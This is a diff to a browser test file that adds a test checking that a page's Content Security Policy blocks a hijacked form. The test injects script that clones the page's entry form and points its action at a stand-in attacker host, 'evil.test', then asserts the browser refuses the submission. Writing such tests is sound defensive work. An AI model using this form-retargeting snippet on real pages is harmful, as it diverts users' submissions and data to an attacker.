@@ -3,6 +3,7 @@ import { afterAll, beforeAll, expect, test, vi } from "vitest";
 import { createLogger } from "../../src/kernel/logger.ts";
 import { type DemoWorld, startDemoWorld } from "../../src/sandbox/demo-world.ts";
 import { collectProblems, openProfile, startBrowser } from "../support/browser.ts";
+import { openInFrame } from "../support/open-in-frame.ts";
 import { walkIn } from "../support/start-world.ts";
 
 const biology = "1";
@@ -48,5 +49,31 @@ test("somebody who presses the button twice enters once, and may press it again 
     { timeout: 30_000, interval: 500 },
   );
   expect(problems).toEqual([]);
+  await context.close();
+});
+
+test("a form that somebody brought into a page leads nowhere, where the page's own lead into the Space", async () => {
+  const { context, frame } = await openInFrame(browser, world, { username: "student1", linkId: biology });
+  const sent: string[] = [];
+  await context.route("https://evil.test/**", async (route) => {
+    sent.push(route.request().url());
+    await route.fulfill({ contentType: "text/html", body: "taken" });
+  });
+  const button = frame.getByRole("button", { name: "Enter the classroom" });
+  await button.waitFor();
+  const refused = await frame.evaluate(`new Promise((resolve) => {
+    addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
+    const form = document.querySelector('form[action="/enter"]').cloneNode(true);
+    form.action = "https://evil.test/take";
+    form.target = "_self";
+    form.removeAttribute("id");
+    document.body.append(form);
+    form.submit();
+    form.remove();
+  })`);
+  expect(refused).toBe("form-action");
+  expect(sent).toEqual([]);
+  const [tab] = await Promise.all([context.waitForEvent("page"), button.first().click()]);
+  await tab.waitForURL(`${world.classroom.appUrl}/spaces/**`, { timeout: 30_000 });
   await context.close();
 });
